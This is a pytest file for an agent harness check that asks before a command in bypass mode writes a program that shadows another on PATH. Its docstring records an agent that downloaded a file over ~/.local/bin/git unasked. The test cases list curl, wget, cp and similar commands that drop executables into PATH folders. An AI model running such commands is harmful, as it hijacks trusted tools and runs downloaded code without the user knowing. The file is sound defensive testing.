"""A program written where the shell finds it before another of its name asks in bypass mode.

Found: ``curl -o ~/.local/bin/git URL`` (with ``~/.local/bin`` ahead of ``/usr/bin`` in
``PATH``, as many distributions set it) ran in bypass mode unasked, and every later ``git``
ran the download.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from test_hostile_commands import safety_question

from fsm_agent.toolbox.path_shadowing import SearchPath


@pytest.fixture
def folders(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, Path, Path]:
    """A working folder, and a PATH of two folders: the first empty, the second holding an
    executable ``tool`` and a plain file ``notes``."""
    work, first, second = tmp_path / "project", tmp_path / "first", tmp_path / "second"
    for folder in (work, first, second, work / "build"):
        folder.mkdir()
    (second / "tool").write_text("#!/bin/sh\n")
    (second / "tool").chmod(0o755)
    (second / "notes").write_text("")
    (work / "build" / "tool").write_text("")
    monkeypatch.setenv("PATH", os.pathsep.join([str(first), str(second)]))
    return work, first, second


def test_a_name_found_further_on_is_shadowed(folders: tuple[Path, Path, Path]) -> None:
    _work, first, second = folders
    search = SearchPath(os.environ["PATH"])
    assert search.shadowed(first / "tool") == str(second / "tool")
    assert search.shadowed(first / "newtool") is None  # no other: installing a tool
    assert search.shadowed(first / "notes") is None  # not a program
    assert search.shadowed(second / "tool") is None  # nothing after it
    assert SearchPath("").shadowed(first / "tool") is None


@pytest.mark.parametrize(
    "command",
    [
        "curl -o {first}/tool https://example.com/x",
        "curl -sSo{first}/tool https://example.com/x",
        "cp build/tool {first}/",
        "cp build/tool {first}",
        "ln -s ../project/build/tool {first}/",
        "printf '#!/bin/sh' > {first}/tool",
        # A download takes the URL's last name, in the folder given or entered.
        "wget -P {first} https://example.com/tool",
        "curl -O --output-dir {first} https://example.com/tool",
        "cd {first} && curl -LO https://example.com/tool",
        "rsync build/tool {first}/",
        "docker cp box:/usr/bin/tool {first}/",  # any writing command naming the folder
        "aws s3 cp s3://bucket/tool {first}",
    ],
)
def test_bypass_asks_before_a_program_shadows_another(
    command: str, folders: tuple[Path, Path, Path]
) -> None:
    work, first, _second = folders
    assert safety_question(command.format(first=first), work)


@pytest.mark.parametrize(
    "command",
    [
        "curl -o {first}/newtool https://example.com/x",
        "cp build/tool {first}/newtool",
        "cp build/tool build/tool2",
        "echo x > {first}/notes",
        "wget -P {first} https://example.com/newtool",
        "cd {first} && curl -LO https://example.com/newtool",
        "docker cp box:/usr/bin/newtool {first}/",
        "git -C {first} commit -m notes",
    ],
)
def test_bypass_runs_a_new_program_or_a_plain_file(
    command: str, folders: tuple[Path, Path, Path]
) -> None:
    work, first, _second = folders
    assert not safety_question(command.format(first=first), work)
